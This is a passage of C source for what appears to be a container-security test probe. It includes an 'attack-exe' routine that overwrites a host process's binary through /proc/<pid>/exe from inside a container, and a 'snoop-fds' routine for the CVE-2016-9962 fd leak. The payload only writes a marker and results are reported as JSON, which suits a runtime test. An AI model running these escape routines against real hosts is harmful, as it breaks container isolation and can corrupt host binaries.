    list_pids(1, NULL, 0);
    double end = now_s() + o.timeout, done_at = -1;
    while (!exists(o.ready) && o.ready && now_s() < end) nap_ms(5);
    while (!wrote && now_s() < end) {
        static int pids[MAX_PIDS];
        int np = list_pids(0, pids, MAX_PIDS);
        for (int i = 0; i < np && nfd < 256; i++) {
            char p[64], l[PATH_MAX];
            snprintf(p, sizeof(p), "/proc/%d/exe", pids[i]);
            ssize_t k = readlink(p, l, sizeof(l) - 1);
            if (k < 0) { if (errno != ENOENT) last_err = errno; continue; }
            l[k] = 0;
            seen = 1;
            if (!strstr(l, o.target)) continue;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) { last_err = errno; continue; }
            /* The process may have exec'd in between: keep the fd only if it still names
             * the target. */
            char self[64];
            snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
            k = readlink(self, l, sizeof(l) - 1);
            if (k < 0 || (l[k] = 0, !strstr(l, o.target))) { close(fd); continue; }
            fds[nfd] = fd;
            memcpy(links[nfd], l, (size_t)k + 1);
            nfd++;
        }
        if (nfd > 0 && fifo_fd < 0 && o.fifo) fifo_fd = open(o.fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fifo_fd >= 0) {
            char buf[4096];
            while (read(fifo_fd, buf, sizeof(buf)) > 0) {
            }
        }
        for (int i = 0; i < nfd && !wrote; i++) {
            char self[64];
            snprintf(self, sizeof(self), "/proc/self/fd/%d", fds[i]);
            int w = open(self, O_WRONLY | O_CLOEXEC);
            if (w < 0) { last_err = errno; continue; }
            static const char marker[] = "#!/bin/sh\necho overwritten from a container\n";
            if (pwrite(w, marker, sizeof(marker) - 1, 0) > 0) wrote = links[i];
            else last_err = errno;
            close(w);
        }
        if (!exists(o.signal) && o.signal) touch(o.signal);
        if (done_at < 0 && exists(o.done)) done_at = now_s() + 1; /* one last second */
        if (done_at >= 0 && now_s() > done_at) break;
        nap_ms(5);
    }
    j_begin();
    j_str("wrote", wrote);
    j_bool("saw_processes", seen);
    j_arr("held");
    for (int i = 0; i < nfd; i++) j_str(NULL, links[i]);
    j_endarr();
    j_int("last_errno", last_err);
    j_finish();
    return 0;
}

/* probe snoop-fds [options]: CVE-2016-9962. Once --ready exists, lists what
 * /proc/<pid>/fd/<n> points to for every new process, for a few rounds, prints
 * {"fds": {"<pid>/<n>": target}, "pids": n, "denied": n}, creates --signal and waits for
 * --done (as pid 1 it must outlive the container that joined its pid namespace). */
static int act_snoop_fds(int n, char **a)
{
    struct watch_opts o;
    if (watch_parse(n, a, &o) < 0) return usage();
    list_pids(1, NULL, 0);
    double end = now_s() + o.timeout;
    while (o.ready && !exists(o.ready) && now_s() < end) nap_ms(5);
    int denied = 0, npids = 0, nseen = 0;
    static long seen[8192]; /* pid << 20 | fd, each reported once */
    j_begin();
    j_obj("fds");
    for (int round = 0; round < 20; round++) {
        static int pids[MAX_PIDS];
        int np = list_pids(0, pids, MAX_PIDS);
        if (np > npids) npids = np;
        for (int i = 0; i < np; i++) {
            char p[64];
            snprintf(p, sizeof(p), "/proc/%d/fd", pids[i]);
            DIR *d = opendir(p);
            if (!d) { if (errno == EACCES || errno == EPERM) denied++; continue; }
            struct dirent *e;
            while ((e = readdir(d))) {
                if (e->d_name[0] == '.') continue;
                char f[400], l[PATH_MAX], key[300];
                snprintf(f, sizeof(f), "%s/%s", p, e->d_name);
                ssize_t k = readlink(f, l, sizeof(l) - 1);
                if (k < 0) continue;
                l[k] = 0;
                long id = (long)pids[i] << 20 | atol(e->d_name);
                int dup = 0;
                for (int s = 0; s < nseen && !dup; s++) dup = seen[s] == id;
                if (dup || nseen == 8192) continue;
                seen[nseen++] = id;
                snprintf(key, sizeof(key), "%d/%s", pids[i], e->d_name);
                j_str(key, l);
            }
            closedir(d);
        }
        nap_ms(10);
    }
    j_endobj();
    j_int("pids", npids);
    j_int("denied", denied);
    j_finish();
    touch(o.signal);
    while (o.done && !exists(o.done) && now_s() < end) nap_ms(5);
    return 0;
}

static int usage(void)
{
    fprintf(stderr, "usage: probe [section...] | probe sysctl <key>... | probe write <path> <text>"
                    " | open <path> | cat <path> | stat <path>... | exit <n> | sleep <secs>"
                    " | signals [secs] | attack-exe --target S [...] | snoop-fds [...]\n");
    return 2;
}

int main(int argc, char **argv)
{
    if (argc >= 2) {
        const char *a = argv[1];
        if (strcmp(a, "write") == 0)
            return argc >= 4 ? act_write(argv[2], argv[3]) : usage();
        if (strcmp(a, "open") == 0)
            return argc >= 3 ? act_open(argv[2]) : usage();
        if (strcmp(a, "cat") == 0)
            return argc >= 3 ? act_cat(argv[2]) : usage();
        if (strcmp(a, "stat") == 0)
            return argc >= 3 ? act_stat(argc - 2, argv + 2) : usage();
        if (strcmp(a, "exit") == 0)
            return argc >= 3 ? atoi(argv[2]) : 0;
        if (strcmp(a, "sleep") == 0) {
            double secs = argc >= 3 ? strtod(argv[2], NULL) : 3600;
            struct timespec ts = {(time_t)secs, (long)((secs - (double)(time_t)secs) * 1e9)};
            while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
            }
            return 0;
        }
        if (strcmp(a, "syscall") == 0)
            return act_syscall(argc - 2, argv + 2);
        if (strcmp(a, "signals") == 0)
            return act_signals(argc >= 3 ? atoi(argv[2]) : 60);
        if (strcmp(a, "attack-exe") == 0)
            return act_attack_exe(argc - 2, argv + 2);
        if (strcmp(a, "snoop-fds") == 0)
            return act_snoop_fds(argc - 2, argv + 2);
        if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
            usage();
            return 0;
        }
    }

    /* Validate before printing anything so a typo gives a clean error. */
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "sysctl") == 0) {
            while (i + 1 < argc && !find_section(argv[i + 1]) && strcmp(argv[i + 1], "sysctl"))
                i++;
            continue;
        }
        if (!find_section(argv[i])) {
            fprintf(stderr, "probe: unknown section '%s'\n", argv[i]);
            return usage();
        }
    }

    j_begin();
    if (argc < 2) {
        for (size_t i = 0; i < NSECTIONS; i++)
            sections[i].fn();
    } else {
        int sysctl_open = 0;
        for (int i = 1; i < argc; i++) {
            if (strcmp(argv[i], "sysctl") == 0) {
                if (!sysctl_open) {
                    j_obj("sysctl");
                    sysctl_open = 1;
                }
                while (i + 1 < argc && !find_section(argv[i + 1]) && strcmp(argv[i + 1], "sysctl"))
                    sysctl_one(argv[++i]);
                /* keep the sysctl object open only while consecutive */
                if (!(i + 1 < argc && strcmp(argv[i + 1], "sysctl") == 0)) {
                    j_endobj();
                    sysctl_open = 0;
                }
                continue;
            }
            find_section(argv[i])->fn();
        }
    }
    j_finish();
    return 0;
}
